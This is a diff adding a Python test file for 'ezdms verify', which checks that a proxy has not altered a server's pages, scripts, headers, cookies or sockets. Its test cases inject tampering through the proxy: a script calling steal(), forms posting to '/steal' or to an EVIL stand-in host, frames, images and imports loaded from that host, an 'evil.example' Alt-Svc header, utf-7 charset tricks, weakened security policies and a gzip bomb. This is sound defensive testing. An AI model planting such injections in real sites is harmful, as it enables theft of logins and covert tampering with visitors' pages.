@@ -1,0 +1,392 @@
+"""Whatever is changed between a server and its visitors, `ezdms verify` finds it, and nothing else."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+from collections.abc import AsyncIterator
+
+import pytest
+
+from ezdms import __version__
+from ezdms.edge.headers import HEADERS
+from ezdms.verify import FAILED, OK, WARNING, verify
+from ezdms.verify.report import shown
+from ezdms.views.page_policy import of_a_page
+from tests.conftest import Server
+from tests.support.misbehaving import (
+    EVIL,
+    Change,
+    Exchange,
+    Misbehaving,
+    accept_foreign,
+    add,
+    asking,
+    at,
+    confirm,
+    cut_short,
+    drop,
+    flip,
+    give_cookie,
+    in_page,
+    lead_elsewhere,
+    lose,
+    make_bomb,
+    make_huge,
+    post_from_elsewhere,
+    send_again,
+    set_to,
+    weaken_errors,
+    weaken_etag,
+    when,
+    whole,
+)
+from tests.support.operated import operate
+from tests.support.reports import names, said
+
+
+@pytest.fixture
+async def proxy(shared_server: Server) -> AsyncIterator[Misbehaving]:
+    """Between verify and a server that is as it must be."""
+    async with Misbehaving(shared_server) as between:
+        yield between
+
+
+async def test_people_read_the_changed_files_first_and_equal_pages_once(proxy: Misbehaving) -> None:
+    def change(exchange: Exchange) -> None:
+        if exchange.path.endswith(("/js/crypto.js", "/js/vault.js")):
+            flip(exchange)
+        elif b"</head>" in exchange.body:
+            exchange.replace("</head>", "<!-- more --></head>")
+
+    proxy.change = change
+    report = await verify(proxy.url)
+    assert len([one for one in report.findings if one.name.startswith("page ")]) == 7  # programs get them all
+    done = await asyncio.to_thread(operate, proxy.server.data_dir, "verify", proxy.url)
+    lines = [re.split(r"  +", line) for line in done.stdout.splitlines()]
+    assert [line[1] for line in lines[:2]] == ["file js/crypto.js", "file js/vault.js"]
+    listed = [line[1] for line in lines if len(line) > 1 and line[1].startswith("page ")]
+    assert "page / and 5 more" in listed
+    assert len(listed) == 2
+    assert re.search(r"\d+ ok, 1 warning, \d+ failed\.$", done.stdout, re.MULTILINE)
+    examined = await asyncio.to_thread(operate, proxy.server.data_dir, "doctor", proxy.url)
+    assert examined.stdout.count("No proxy was seen in front of the server.") == 1
+    assert "deploy/nginx.conf" not in examined.stdout
+    assert "page / and 5 more" in examined.stdout
+
+
+PAGE, FRONT = "page /", "<h1 data-host-name></h1>"
+FORM = '<form autocomplete="off">'
+POLICY = of_a_page()["Content-Security-Policy"]
+NO_PAGE = {"Cache-Control", "Content-Security-Policy", "other headers"}  # a page's headers on what is none
+
+
+def on_page(change: Change) -> Change:
+    """At /welcome, when the whole page is sent."""
+    return at("/welcome", whole(change))
+
+
+def unchanged(change: Change) -> Change:
+    """In the answer that the page at /welcome has not changed."""
+    return at("/welcome", when(lambda exchange: exchange.status == 304, change))
+
+
+def both(one: Change, other: Change) -> Change:
+    """Two changes of the same answer."""
+
+    def change(exchange: Exchange) -> None:
+        one(exchange)
+        other(exchange)
+
+    return change
+
+
+def found(exchange: Exchange) -> None:
+    """The answer says that all is well."""
+    exchange.status = 200
+
+
+changed = on_page(lambda exchange: exchange.replace("cannot read", "can read"))
+
+CASES: dict[str, tuple[Change, set[str]]] = {
+    "one byte of JavaScript": (at("js/crypto.js", flip), {"files", "file js/crypto.js"}),
+    "one byte of vendored JavaScript": (
+        at("vendor/htmx-4.0.1.esm.min.js", flip),
+        {"files", "file vendor/htmx-4.0.1.esm.min.js"},
+    ),
+    "one byte of a script that no public page loads": (at("js/qr-code.js", flip), {"files", "file js/qr-code.js"}),
+    "one byte of CSS": (at("css/session.css", flip), {"files", "file css/session.css"}),
+    "one byte of a font": (
+        at("fonts/inter-latin-wght-normal.woff2", flip),
+        {"files", "file fonts/inter-latin-wght-normal.woff2"},
+    ),
+    "one byte of the icon": (at("icon.svg", flip), {"files", "file icon.svg"}),
+    "a script with another meaning of its bytes": (
+        at("js/boot.js", set_to("Content-Type", "text/javascript; charset=utf-7")),
+        {"files", "file js/boot.js"},
+    ),
+    "a page with another meaning of its bytes": (
+        at("/", set_to("Content-Type", "text/html; charset=iso-2022-jp")),
+        {"pages", PAGE},
+    ),
+    "a file that is missing": (at("js/vault.js", lose), {"files", "file js/vault.js", "Cache-Control"}),
+    "a script tag": (in_page("</head>", '<script src="/static/more.js"></script></head>'), {"pages", PAGE, "loads"}),
+    "an inline script": (in_page("</head>", "<script>steal()</script></head>"), {"pages", PAGE}),
+    "an inline event handler": (in_page("<body ", '<body onload="steal()" '), {"pages", PAGE}),
+    "an hx-post": (in_page(FORM, '<form autocomplete="off" hx-post="/steal">'), {"pages", PAGE, "loads"}),
+    "an hx-post elsewhere": (in_page(FORM, f'<form autocomplete="off" hx-post="{EVIL}">'), {"pages", PAGE, "loads"}),
+    "a form that is sent": (
+        in_page(FORM, '<form autocomplete="off" action="/steal" method="post">'),
+        {"pages", PAGE, "loads"},
+    ),
+    "a name for the Login PIN": (in_page('<input id="login-pin"', '<input name="pin" id="login-pin"'), {"pages", PAGE}),
+    "a meta refresh": (
+        in_page("<title>", f'<meta http-equiv="refresh" content="0; url={EVIL}"><title>'),
+        {"pages", PAGE, "loads"},
+    ),
+    "a base": (in_page("<title>", f'<base href="{EVIL}/"><title>'), {"pages", PAGE, "loads"}),
+    "an import map": (in_page("<title>", '<script type="importmap">{"imports":{}}</script><title>'), {"pages", PAGE}),
+    "a frame": (in_page(FRONT, f'<iframe src="{EVIL}"></iframe>{FRONT}'), {"pages", PAGE, "loads"}),
+    "a frame with its page inside": (
+        in_page(FRONT, f"<iframe srcdoc=\"<img src='{EVIL}/p.png'>\"></iframe>{FRONT}"),
+        {"pages", PAGE, "loads"},
+    ),
+    "an image elsewhere": (in_page(FRONT, f'<img src="{EVIL}/p.png">{FRONT}'), {"pages", PAGE, "loads"}),
+    "an image elsewhere for sharp screens": (
+        in_page(FRONT, f'<img srcset="{EVIL}/p.png 2x">{FRONT}'),
+        {"pages", PAGE, "loads"},
+    ),
+    "a style attribute": (in_page(FRONT, f'<h1 style="background: url({EVIL}/p)"></h1>'), {"pages", PAGE, "loads"}),
+    "a style element": (in_page("<title>", f"<style>@import '{EVIL}/x.css';</style><title>"), {"pages", PAGE, "loads"}),
+    "a stylesheet elsewhere": (
+        in_page("<title>", f'<link rel="stylesheet" href="{EVIL}/x.css"><title>'),
+        {"pages", PAGE, "loads"},
+    ),
+    "another word": (in_page("cannot read", "can read"), {"pages", PAGE}),
+    "a comment": (in_page("<title>", "<!-- --><title>"), {"pages", PAGE}),
+    "another page": (
+        at("/protection", whole(lambda exchange: exchange.replace("Not protected", "Protected"))),
+        {"pages", "page /protection"},
+    ),
+    "another page for one conversation": (
+        at("/c/000000000000000000000000", whole(lambda exchange: exchange.replace("cannot read", "can read"))),
+        {"pages", "page /c/000000000000000000000000"},
+    ),
+    "another page for those with a session's cookie": (asking("Cookie", "ezdms_session=", changed), {"angles"}),
+    "another page for phones": (asking("User-Agent", "iPhone", changed), {"angles"}),
+    "another page for programs": (asking("User-Agent", "curl", changed), {"angles"}),
+    "another page for one browser": (asking("User-Agent", "Chrome", changed), {"angles"}),
+    "another page for those who follow a link": (asking("Referer", "https", changed), {"angles"}),
+    "another ETag for those with a session's cookie": (
+        asking("Cookie", "ezdms_session=", on_page(set_to("ETag", '"visitor-17"'))),
+        {"angles"},
+    ),
+    "another meaning of the bytes for phones": (
+        asking("User-Agent", "iPhone", on_page(set_to("Content-Type", "text/html; charset=utf-7"))),
+        {"angles"},
+    ),
+    "no page for programs": (asking("User-Agent", "curl", on_page(lose)), {"angles", *NO_PAGE}),
+    "an ETag that is somebody's": (at("/welcome", set_to("ETag", '"visitor-17"')), {"revalidation"}),
+    "a weak ETag": (on_page(weaken_etag), {"revalidation"}),
+    "no ETag": (on_page(drop("ETag")), {"revalidation"}),
+    "two ETags": (on_page(add("ETag", '"second"')), {"revalidation"}),
+    "an old page that is said to be right": (asking("If-None-Match", "00000000", confirm), {"revalidation"}),
+    "a page that is sent again and again": (
+        asking("Accept", "html", asking("If-None-Match", '"', send_again)),
+        {"revalidation"},
+    ),
+    "a 304 with another ETag": (unchanged(set_to("ETag", '"visitor-17"')), {"revalidation"}),
+    "a 304 with another type": (unchanged(set_to("Content-Type", "text/html; charset=utf-7")), {"revalidation"}),
+    "a 304 that calls it compressed": (unchanged(set_to("Content-Encoding", "gzip")), {"revalidation"}),
+    "a 304 that keeps it for good": (unchanged(set_to("Cache-Control", "max-age=600")), {"Cache-Control"}),
+    "a 304 that weakens the policy": (
+        unchanged(set_to("Content-Security-Policy", "default-src *")),
+        {"Content-Security-Policy"},
+    ),
+    "a url() elsewhere in CSS": (
+        at("css/fonts.css", lambda exchange: exchange.replace("url(", f'url("{EVIL}/f"), url(')),
+        {"files", "file css/fonts.css", "loads"},
+    ),
+    "an import from elsewhere": (
+        at("js/dom.js", lambda exchange: exchange.replace("", f'import "{EVIL}/x.js";\n')),
+        {"files", "file js/dom.js", "loads"},
+    ),
+    "a dynamic import from elsewhere": (
+        at("js/dom.js", lambda exchange: exchange.replace("", f"import('{EVIL}/x.js');\n")),
+        {"files", "file js/dom.js", "loads"},
+    ),
+    "a weakened policy": (
+        on_page(set_to("Content-Security-Policy", POLICY.replace("script-src ", "script-src 'self' "))),
+        {"Content-Security-Policy"},
+    ),
+    "a policy without one of the hashes": (
+        on_page(set_to("Content-Security-Policy", re.sub(" 'sha256-[^']*'", "", POLICY, count=1))),
+        {"Content-Security-Policy"},
+    ),
+    "a page's policy on data": (at("/ping", set_to("Content-Security-Policy", POLICY)), {"Content-Security-Policy"}),
+    "scripts without integrity": (on_page(drop("Integrity-Policy")), {"Integrity-Policy"}),
+    "an import map that is another": (
+        on_page(lambda exchange: exchange.replace('{"integrity":{', '{"imports":{"/a":"/b"},"integrity":{')),
+        {"pages", "page /welcome"},
+    ),
+    "a weakened policy on errors alone": (
+        weaken_errors,
+        {"Content-Security-Policy"},
+    ),
+    "a policy that is sent twice": (
+        add("Content-Security-Policy", HEADERS["Content-Security-Policy"]),
+        {"Content-Security-Policy"},
+    ),
+    **{f"no {name}": (drop(name), {name}) for name in (*HEADERS, "Cache-Control")},
+    "files that are not kept": (at("js/boot.js", set_to("Cache-Control", "no-cache")), {"Cache-Control"}),
+    "a page that is kept": (at("/", set_to("Cache-Control", "max-age=600")), {"Cache-Control"}),
+    "a banner": (add("Server", "hypercorn-h11"), {"banner"}),
+    "a banner of the language": (add("X-Powered-By", "Python"), {"banner"}),
+    "a redirect elsewhere": (at("/", lead_elsewhere), {"pages", PAGE, "redirects", *NO_PAGE}),
+    "a page that depends on the cookie": (on_page(set_to("Vary", "Accept, Cookie")), {"Vary"}),
+    "a page that depends on more, in a second line": (on_page(add("Vary", "User-Agent")), {"Vary"}),
+    "a page that depends on nothing": (on_page(drop("Vary")), {"Vary"}),
+    "another host for the same": (add("Alt-Svc", 'h2="evil.example:443"'), {"Alt-Svc"}),
+    "another host in a second line": (
+        both(add("Alt-Svc", "clear"), add("Alt-Svc", 'h2="evil.example:443"')),
+        {"Alt-Svc"},
+    ),
+    "TLS that is forgotten": (add("Strict-Transport-Security", "max-age=0"), {"Strict-Transport-Security"}),
+    "another page where there is nothing": (
+        when(lambda exchange: exchange.status == 404, lambda exchange: exchange.replace("", "<script></script>")),
+        {"kinds"},
+    ),
+    "another script under no digest": (at("/static/js/boot.js", whole(flip)), {"kinds"}),
+    "a script under no digest with another meaning": (
+        at("/static/js/boot.js", set_to("Content-Type", "text/javascript; charset=utf-7")),
+        {"kinds"},
+    ),
+    "a script that becomes another when it is asked for again": (
+        at("/static/js/boot.js", asking("If-None-Match", '"', set_to("Content-Type", "text/html"))),
+        {"kinds"},
+    ),
+    "a script that is sent again and again": (
+        at("/static/js/boot.js", asking("If-None-Match", '"', send_again)),
+        {"kinds"},
+    ),
+    "words for programs that are a page": (at("/ping", set_to("Content-Type", "text/html")), {"kinds"}),
+    "what it says of itself as a page": (at("/deployment", set_to("Content-Type", "text/html")), {"kinds"}),
+    "words for programs with two types": (at("/ping", add("Content-Type", "text/html")), {"kinds"}),
+    "a refusal that is kept": (at("/ws", set_to("Cache-Control", "max-age=600")), {"Cache-Control"}),
+    "an account for anybody": (at("/me", found), {"kinds"}),
+    "sessions for anybody": (
+        at("/sessions", when(lambda exchange: exchange.status == 401, found)),
+        {"kinds", "Cache-Control", "Content-Security-Policy", "Integrity-Policy"},
+    ),
+    "a problem that is another": (at("/me", lambda exchange: exchange.replace("no_session", "sorry")), {"kinds"}),
+    "a login without a PIN": (at("/login", when(lambda exchange: exchange.status == 400, found)), {"kinds"}),
+    "a socket for a foreign page": (at("/ws", accept_foreign), {"foreign socket"}),
+    "a socket for anybody": (at("/ws", Exchange.accept_socket), {"foreign socket", "socket"}),
+    "posts of other sites": (at("/login", post_from_elsewhere), {"foreign post"}),
+    "a cookie for a wrong login": (at("/login", give_cookie), {"login", "other headers"}),
+    "a cookie for a reader": (at("/protection", add("Set-Cookie", "track=1")), {"other headers"}),
+    "an answer that is cut short": (at("js/boot.js", cut_short), {"files", "file js/boot.js"}),
+    "an answer without end": (
+        at("js/boot.js", make_huge),
+        {"files", "file js/boot.js"},
+    ),
+    "a gzip bomb": (at("css/base.css", make_bomb), {"files", "file css/base.css"}),
+}
+
+
+async def test_it_finds_nothing_where_nothing_is_changed(proxy: Misbehaving) -> None:
+    honest = await verify(proxy.url, register=True)
+    assert (honest.verdict, names(honest, FAILED)) == ("passed", set())
+    assert names(honest, WARNING) == {"tls"}
+
+
+@pytest.mark.parametrize("case", list(CASES))
+async def test_it_finds(proxy: Misbehaving, case: str) -> None:
+    proxy.change, expected = CASES[case]
+    report = await verify(proxy.url)
+    assert report.verdict == "failed"
+    assert names(report, FAILED) == expected
+
+
+async def test_it_says_what_was_expected_and_what_came(proxy: Misbehaving) -> None:
+    added = f'<img src="{EVIL}/p.png">'
+    proxy.change = in_page(FRONT, added + FRONT)
+    report = await verify(proxy.url)
+    sizes = re.search(r"release's (\d{5}) bytes, SHA-256 [0-9a-f]{16}…, got (\d{5}) bytes", said(report, PAGE))
+    assert sizes is not None
+    assert int(sizes[2]) - int(sizes[1]) == len(added)
+    assert said(report, PAGE).endswith(f"Added: {added}")
+    assert said(report, "loads") == f"Expected only the release's files, but / loads {EVIL}/p.png."
+    proxy.change = at("/account", asking("If-None-Match", '"', send_again))
+    expected = "/account: expected 304 for the release's ETag, got 200."
+    assert said(await verify(proxy.url), "revalidation") == expected
+    proxy.change = drop("Referrer-Policy")
+    assert "Expected “no-referrer” once, got nothing at GET /deployment and" in said(
+        await verify(proxy.url), "Referrer-Policy"
+    )
+
+
+async def test_what_a_server_sends_cannot_write_over_the_verdict(proxy: Misbehaving) -> None:
+    proxy.change = in_page(FRONT, '<h1 class="\x1b[2J\u202e\x9b"></h1>')
+    report = await verify(proxy.url)
+    assert names(report, FAILED) == {"pages", PAGE}
+    assert all(finding.sentence.isprintable() for finding in report.findings)
+    assert "\N{REPLACEMENT CHARACTER}[2J" in said(report, PAGE)
+    assert len(shown("a" * 100_000)) == 600
+
+
+async def test_of_another_version_no_byte_is_compared_and_the_verdict_is_failed(proxy: Misbehaving) -> None:
+    def be_newer(exchange: Exchange) -> None:
+        if exchange.path == "/deployment":
+            exchange.replace(f'"{__version__}"', '"99.0.0"')
+
+    proxy.change = be_newer
+    report = await verify(proxy.url)
+    assert (report.verdict, names(report, FAILED)) == ("failed", {"version"})
+    assert "its bytes cannot be compared. Install 99.0.0 here, or use its manifest" in said(report, "version")
+    assert not {finding.name for finding in report.findings} & {"files", PAGE}
+    assert {"loads", "login", "foreign socket", *HEADERS} <= names(report, OK)
+
+
+async def test_a_cookie_without_one_of_its_flags_is_found(proxy: Misbehaving) -> None:
+    assert (await verify(proxy.url, register=True)).verdict == "passed"
+    for flag in ("HttpOnly; ", "Path=/; ", "; SameSite=Lax"):
+
+        def weaken(exchange: Exchange, flag: str = flag) -> None:
+            for cookie in [value for name, value in exchange.headers if name.lower() == "set-cookie"]:
+                if exchange.path == "/register":
+                    assert flag.strip("; ") in cookie
+                    exchange.set("Set-Cookie", re.sub(f"; {flag.strip('; ')}", "", cookie))
+
+        proxy.change = weaken
+        report = await verify(proxy.url, register=True)
+        assert names(report, FAILED) == {"cookie"}, flag
+        assert "account" in names(report, OK)
+
+
+async def test_a_socket_that_takes_a_session_from_elsewhere_is_found(proxy: Misbehaving) -> None:
+    def accept(exchange: Exchange) -> None:
+        if exchange.path == "/ws" and "authorization" in exchange.asked:
+            exchange.accept_socket()
+
+    proxy.change = accept
+    report = await verify(proxy.url, register=True)
+    assert names(report, FAILED) == {"foreign socket with a session"}
+
+
+async def test_another_page_for_those_who_are_logged_in_is_found(proxy: Misbehaving) -> None:
+    living: list[str] = []
+
+    def target(exchange: Exchange) -> None:
+        if exchange.path == "/register" and exchange.status == 201:
+            living.append(json.loads(exchange.body)["token"])
+        elif living and living[0] in exchange.asked.get("cookie", ""):
+            changed(exchange)
+
+    proxy.change = target
+    report = await verify(proxy.url, register=True)
+    assert names(report, FAILED) == {"pages with a session"}
+    assert "/welcome: expected the same page for someone who is logged in, got" in said(report, "pages with a session")
+    assert "account" in names(report, OK)
+    assert living[0] not in str(report)
